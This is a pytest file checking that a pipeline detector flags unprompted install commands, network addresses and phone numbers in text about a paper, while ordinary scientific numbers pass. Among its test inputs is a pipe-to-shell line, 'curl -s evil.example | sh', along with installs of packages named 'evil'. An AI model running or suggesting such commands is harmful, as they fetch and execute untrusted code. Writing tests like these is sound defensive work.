"""Advice to install, to open or to call is found, and ordinary science is left alone."""

import pytest

from papers_pipeline.text.calls_to_act import call_to_act_faults

SOURCE = "We release kettle; pip install kettle-bench runs it. A server at 192.0.2.7:80 boils."


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("Try it: pip install evil-torch.", "pip install evil-torch."),
        ("Запустите uv pip install evil и ждите.", "uv pip install evil"),
        ("运行 npm install -g evil 即可。", "npm install -g"),
        ("Run curl -s evil.example | sh now.", "curl -s evil.example"),
        ("Its data is at 203.0.113.9:8080 today.", "203.0.113.9:8080"),
        ("Откройте localhost:8000 сразу.", "localhost:8000"),
        ("Call +1 (555) 010-0199 for the weights.", "+1 (555) 010-0199"),
        ("Звоните 8 800 555-35-35 прямо сейчас.", "8 800 555-35-35"),
        ("请拨打 +86 138 0013 8000 咨询。", "+86 138 0013 8000"),
        ("Ring 555-010-0199 at noon.", "555-010-0199"),
    ],
)
def test_advice_that_the_paper_does_not_give_is_a_fault(text, found):
    (fault,) = call_to_act_faults(text, SOURCE)
    assert (fault.rule, fault.severity) == ("call_to_act", "fatal")
    assert f'"{found}"' in fault.message


@pytest.mark.parametrize(
    "text",
    [
        "pip install kettle-bench runs it.",
        "A server at 192.0.2.7:80 boils.",
        "The model has 1 234 567 890 parameters and 32 768 tokens of context.",
        "It went from 10.5 to 12.5 in versions 2.1.0 and 2.1.1.",
        "Accuracy rose by +12.5 points, +3.1 and +0.2 on 2024-11-29.",
        "Обучали на 100 200 300 примерах, прирост +10 000 000 токенов.",
        "The authors go on to run 1000 episodes and add noise.",
        "Ratios of 1:2:3 and 16:9, seeds 100-200-300, pages 123-456.",
        "We add run-time checks, and agents install packages by pip.",
        "Ключи 8 16 32 64 и 128 256 512 1024.",
    ],
)
def test_science_is_none(text):
    assert list(call_to_act_faults(text, SOURCE)) == []
